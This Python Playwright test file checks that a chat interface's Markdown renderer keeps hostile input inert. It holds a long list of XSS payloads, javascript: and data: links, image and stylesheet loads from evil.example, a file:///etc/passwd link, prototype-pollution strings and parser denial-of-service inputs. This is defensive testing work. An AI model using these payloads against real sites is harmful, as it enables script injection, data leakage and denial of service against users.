"""Texts that attack the page: they stay text, ask no other origin, and open no dialog."""

from __future__ import annotations

import json
from typing import Any

from tests.ui.conftest import sync_api
from tests.ui.test_chat import Endpoint, ask, chunk, composer, open_settings, settle, stream

expect = sync_api.expect
EVIL = "https://evil.example/x"
PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}.png>",
    "<script>alert(1)</script>",
    f"<script src={EVIL}.js></script>",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<link rel=stylesheet href={EVIL}.css>",
    f"<style>@import '{EVIL}';body{{background:url({EVIL})}}</style>",
    f"<form action={EVIL}><button autofocus onfocus=alert(1)>x",
    "<body onload=alert(1)>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<video src={EVIL} autoplay onerror=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "</div></main></body></html><h1>owned</h1>",
    "<details open ontoggle=alert(1)>",
    "<x onclick=alert(1) style=position:fixed;inset:0>cover",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example "onmouseover=alert(1)")',
    f'[x]({EVIL}" onclick="alert(1))',
    "[https://bank.example](https://evil.example/)",
    "<javascript:alert(1)>",
    f"![x]({EVIL}.png)",
    f"![x]({EVIL}.png?q=secret 'title')",
    f"[![x]({EVIL}.png)]({EVIL})",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "![x](blob:https://evil.example/1)",
    f"![x][r]\n\n[r]: {EVIL}.png",
    "$\\href{javascript:alert(1)}{x}$",
    f"$\\includegraphics{{{EVIL}.png}}$",
    "$\\htmlStyle{position:fixed;inset:0}{x}$",
    "$\\htmlClass{notice}{x}\\htmlId{main}{y}\\htmlData{a=b}{z}$",
    f"$\\url{{{EVIL}}}$",
    "$\\def\\a{\\a\\a}\\a$",
    "$\\rule{99999em}{99999em}$",
    "$\\color{red;background:url(x)}{x}$",
    "$" + "{" * 300 + "x" + "}" * 300 + "$",
    "$$\\begin{matrix}" + "a&" * 200 + "\\end{matrix}$$",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```<img/src=x/onerror=alert(1)>\ncode\n```",
    '```"onclick="alert(1)\ncode\n```',
    "```__proto__\ncode\n```",
    "```constructor\ncode\n```",
    "```python\nunclosed",
    "`<b onmouseover=alert(1)>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | `|` |",
    "# <img src=x onerror=alert(1)>",
    "> " * 500 + "deep",
    "- " * 300 + "deep",
    "*" * 2000 + "a" + "*" * 2000,
    "[" * 2000 + "](" * 500,
    "\u202egnp.exe\u202c and \u2066isolate",
    "\u200bzero\u200dwidth\ufeff\u2060",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\x00\x01\x02\x7f\x85",
    "Z\u0351\u036b\u0343" * 200,
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= alert(1) %>",
    "window.__proto__.x = 1 // __proto__",
    "\ud83d\ude00" * 500,
    "a" * 1_000_000,
)
CONTEXTS = ("{}", "- item {}\n- b", "> quoted {}")
TEXTS = [
    context.format(text)
    for text in PAYLOADS
    for context in CONTEXTS
    if len(text) < 9000 or context == "{}"
]

MOUNT = """async (texts) => {
  const { render, html } = await import("./vendor/preact.js");
  const { Markdown } = await import("./lib/markdown.js");
  const place = document.createElement("div");
  place.id = "hostile";
  document.querySelector("main").append(place);
  const section = (text) => html`<section><${Markdown} text=${text} /></section>`;
  render(html`${texts.map(section)}`, place);
  await Promise.all([import("./vendor/katex.js"), import("./vendor/highlight.js")]);
  await new Promise((done) => setTimeout(done, 300));
}"""
PARSE = """async (texts) => {
  const { render, html } = await import("./vendor/preact.js");
  const { Markdown } = await import("./lib/markdown.js");
  const place = document.createElement("div");
  return texts.map((text) => {
    const began = performance.now();
    render(html`<${Markdown} text=${text} />`, place);
    return (performance.now() - began) / 1000;
  });
}"""
INSPECT = """() => {
  const known = new Set(`DIV P A CODE PRE SPAN UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD
    STRONG EM S H3 H4 H5 H6 HR BR IMG BUTTON SECTION`.split(/\\s+/));
  const picture = /^data:image\\/(png|jpeg|gif|webp);/;
  const math = "http://www.w3.org/1998/Math/MathML";
  const found = [];
  for (const node of document.querySelectorAll("#hostile *")) {
    const where = () => node.outerHTML.slice(0, 120);
    if (!known.has(node.tagName) && node.namespaceURI !== math) found.push(`element ${where()}`);
    for (const { name, value } of node.attributes) {
      if (/^on|^style$|^srcdoc$|^srcset$/.test(name)) found.push(`attribute ${name} ${where()}`);
      if (/href$/.test(name) && !/^https?:/.test(value)) found.push(`link ${value} ${where()}`);
      if (name === "src" && !picture.test(value)) found.push(`source ${where()}`);
      if (name === "id") found.push(`id ${where()}`);
    }
    if (node.tagName === "A" && node.rel !== "noopener noreferrer") found.push(`rel ${where()}`);
  }
  const count = document.querySelectorAll("#hostile > section").length;
  return [count, found, Object.prototype.x ?? null];
}"""


def test_hostile_texts_stay_text(page: Any) -> None:
    assert len(TEXTS) >= 200
    page.goto("/ui/#/chat")
    expect(composer(page)).to_be_visible()
    page.evaluate(MOUNT, TEXTS)
    count, found, polluted = page.evaluate(INSPECT)
    assert count == len(TEXTS) and found == [] and polluted is None
    # what looks like HTML is shown as it was written
    shown = page.evaluate(
        "() => [...document.querySelectorAll('#hostile > section')].map((s) => s.textContent)"
    )
    for text, seen in zip(TEXTS, shown, strict=True):
        if text.startswith("<") and "&" not in text and "javascript" not in text:
            assert seen.split()[0] in text.replace("\n", " "), text[:80]
    assert page.title() == "Chat · RadixLM"


def test_hostile_texts_in_all_places_of_a_chat(page: Any) -> None:
    """Answers, thinking, names and arguments of tools, errors, titles, and a link's own address."""
    attack = PAYLOADS[0]
    endpoint = Endpoint(page)
    call = {"index": 0, "id": attack, "function": {"name": attack, "arguments": attack}}
    endpoint.answers += [
        stream([chunk({"reasoning_content": attack}), chunk({"tool_calls": [call]})]),
        f"data: {json.dumps({'error': {'message': attack, 'param': attack, 'code': 500}})}\n\n",
        stream([chunk({"content": "[x](javascript:alert(1)) https://bank.example/a"})]),
    ]
    page.goto("/ui/#/chat")
    open_settings(page).get_by_label("System prompt").fill(attack)
    ask(page, attack)
    got = settle(page, 1)
    expect(got.locator(".call pre")).to_have_text(attack)
    got.get_by_label(f"Result of {attack}").fill(attack)
    got.get_by_role("button", name="Send results").click()
    expect(settle(page, 2).locator(".failure .what")).to_have_text(attack)
    page.get_by_role("button", name="Try again").click()
    link = settle(page, 2).get_by_role("link", name="https://bank.example/a")
    expect(link).to_have_attribute("target", "_blank")
    assert page.locator("main img, main script, main svg").count() == 0
    expect(page.locator(".chat-list li").first).to_contain_text(attack)


def test_an_imported_file_cannot_attack(page: Any, tmp_path: Any) -> None:
    attack = PAYLOADS[0]
    node = {
        "role": "user",
        "parent": "root",
        "text": attack,
        "parts": [{"kind": "image", "url": EVIL}],
    }
    talk = {"id": "../x", "title": attack, "nodes": {"a": node, "b": {"role": attack}}}
    circles = {"root": "root", "d": "e", "e": "d"}  # nobody follows them
    talk["nodes"] |= {name: node | {"parent": of} for name, of in circles.items()}  # type: ignore[operator]
    file = tmp_path / "chats.json"
    talk["nodes"]["c"] = {"role": "assistant", "parent": "a", "text": 5, "stats": {"seed": {}}}  # type: ignore[index]
    file.write_text(json.dumps({"format": "radixlm-conversations", "conversations": [talk]}))
    page.goto("/ui/#/chat")
    page.locator(".chat-list input[type=file]").set_input_files(file)
    expect(page.locator(".message.user .said")).to_have_text(attack)
    assert page.locator("main img").count() == 0


def test_marks_that_never_close_are_read_in_time(page: Any) -> None:
    """A model that repeats the begin of a formula: each must not search the whole text."""
    page.goto("/ui/#/chat")
    expect(composer(page)).to_be_visible()
    seconds = page.evaluate(PARSE, ["\\(x " * 45_000, "\\[\n" * 15_000])
    assert max(seconds) < 5, seconds
